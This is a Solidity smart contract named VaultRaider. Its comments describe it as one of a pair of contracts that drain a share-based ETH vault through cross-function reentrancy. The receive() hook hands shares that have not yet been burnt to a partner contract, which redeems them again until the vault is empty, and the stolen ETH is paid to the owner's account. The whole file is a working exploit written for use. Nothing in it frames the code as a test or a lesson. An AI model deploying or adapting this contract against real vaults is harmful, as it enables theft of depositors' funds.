// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

interface IShareVault {
    function deposit() external payable;

    function transfer(address to, uint256 shares) external;

    function redeemAll() external;

    function sharesOf(address account) external view returns (uint256);
}

/// @title VaultRaider
/// @notice One of a pair of contracts that drain a ShareVault by cross-function reentrancy: the
///         raider being paid by `redeemAll` moves its not-yet-burnt shares to its partner from
///         `receive`, the partner redeems them again, and so on until the vault is empty.
///         The leader (the one `raid` is called on) collects the loot and pays its owner EOA.
contract VaultRaider {
    IShareVault public immutable vault;
    address public immutable partner;
    address public immutable owner;
    uint256 public handovers;

    event Raided(address indexed vault, address indexed beneficiary, uint256 loot, uint256 handovers);

    constructor(IShareVault vault_, address partner_) {
        vault = vault_;
        partner = partner_;
        owner = msg.sender;
    }

    /// @notice Deposit `msg.value` as the stake, then redeem it again and again through the pair.
    function raid() external payable {
        require(msg.sender == owner, "VaultRaider: not owner");
        require(msg.value > 0, "VaultRaider: no stake");
        vault.deposit{value: msg.value}();
        while (true) {
            if (vault.sharesOf(address(this)) > 0) {
                vault.redeemAll();
            } else if (vault.sharesOf(partner) > 0) {
                VaultRaider(payable(partner)).cashOut();
            } else {
                break;
            }
        }
        uint256 loot = address(this).balance;
        emit Raided(address(vault), owner, loot, handovers);
        (bool ok, ) = owner.call{value: loot}("");
        require(ok, "VaultRaider: payout failed");
    }

    /// @notice Redeem this raider's shares and hand the ETH to the partner (the leader).
    function cashOut() external {
        require(msg.sender == partner, "VaultRaider: not partner");
        vault.redeemAll();
        (bool ok, ) = partner.call{value: address(this).balance}("");
        require(ok, "VaultRaider: hand-over failed");
    }

    /// @dev While the vault pays, pass the shares being paid for to the partner if the vault can
    ///      pay them once more.
    receive() external payable {
        if (msg.sender != address(vault)) {
            return;
        }
        uint256 shares = vault.sharesOf(address(this));
        if (shares > 0 && address(vault).balance >= shares) {
            handovers += 1;
            vault.transfer(partner, shares);
        }
    }
}
